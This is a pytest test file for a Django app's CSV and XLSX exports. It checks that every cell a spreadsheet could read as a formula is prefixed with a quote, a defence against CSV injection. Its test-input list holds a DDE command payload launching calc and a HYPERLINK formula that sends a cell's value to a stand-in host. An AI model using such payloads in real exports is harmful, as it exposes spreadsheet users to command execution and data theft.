"""Probe 3, finding 18: no cell of a CSV or XLSX export is read as a formula by a spreadsheet (OWASP CSV injection),
also when it starts with whitespace or a line break; one function (lib/spreadsheets.py) for every export."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kenniscentrum.lib.spreadsheets import TRIGGERS, inert
from tests.conftest import logged_in
from tests.insights.test_pages import centre_analyst

NASTY = [
    "=1+1",
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' =HYPERLINK("http://x.example/?"&A1)',
    "   @SUM(A1)",
    "\u00a0=1+1",  # a no-break space
    "\u3000+1",  # an ideographic space
    "\n\n-1",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheets read as "="
]


def looks_like_a_formula(cell: str) -> bool:
    return any(start[:1] != "" and start[0] in TRIGGERS for start in (cell, cell.lstrip()))


@pytest.mark.parametrize("cell", NASTY)
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_is_made_text(cell: str) -> None:
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Enschede", "", "5", "< 5", "x", "0--17", "Regio – 2026", "'quoted", "a=b", "e-mail"])
def test_an_ordinary_cell_is_left_as_it_is(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_no_text_leaves_as_a_formula(text: str) -> None:
    safe = inert(text)
    assert safe in (text, "'" + text)
    assert not looks_like_a_formula(safe)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none()))
def test_numbers_stay_numbers(value: object) -> None:
    assert inert(value) == value


EXPORTS = ["/medewerkers/monitor/dataset/2024/ctdc.csv", "/medewerkers/monitor/dataset/2024/htcds.xlsx",
           "/medewerkers/monitor/export/alle.csv", "/medewerkers/monitor/export/alle.xlsx"]  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("url", EXPORTS)
def test_no_export_carries_a_formula(region, monkeypatch, url) -> None:
    """Whatever a record or a table line holds (here a value that came in typed), it leaves as text."""
    from kenniscentrum.insights import views
    from kenniscentrum.insights.models import Release

    nasty = {f"c{n}": cell for n, cell in enumerate(NASTY)}
    from django.utils import timezone

    from kenniscentrum.insights import publication

    user = centre_analyst()
    publication.make_release(timezone.localdate().year - 1, user)  # the tables the exports read
    # A record file as a release keeps it, with a value that came in typed in every row.
    columns = ["yearOfRegistration", "citizenship", "Datasource"]
    rows = [["2024", c, c] for c in NASTY]
    made = {
        "year": 2024,
        "k_required": 11,
        "l_required": 2,
        "k": 11,
        "l": 2,
        "total": len(NASTY),
        "left_out": 0,
        "steps": [],
        "columns": {"ctdc": columns, "htcds": columns},
        "rows": {"ctdc": rows, "htcds": rows},
    }
    Release.objects.create(year=2024, made_by=user, published={}, exact={}, digest="0" * 64, records=made)
    lines = views._lines
    monkeypatch.setattr(views, "_lines", lambda *args: [*lines(*args), list(nasty.values())])
    response = logged_in(user).get(url)
    assert response.status_code == 200
    if url.endswith(".xlsx"):
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert not [cell.value for cell in cells if cell.data_type == "f" or looks_like_a_formula(cell.value)]
        # XML reads a carriage return back as a line feed.
        assert {("'" + cell).replace("\r", "\n") for cell in NASTY} <= {cell.value for cell in cells}
    else:
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if "export" in url else ","))
        assert not [cell for row in rows for cell in row if looks_like_a_formula(cell)]
        assert {"'" + cell for cell in NASTY} <= {cell for row in rows for cell in row}
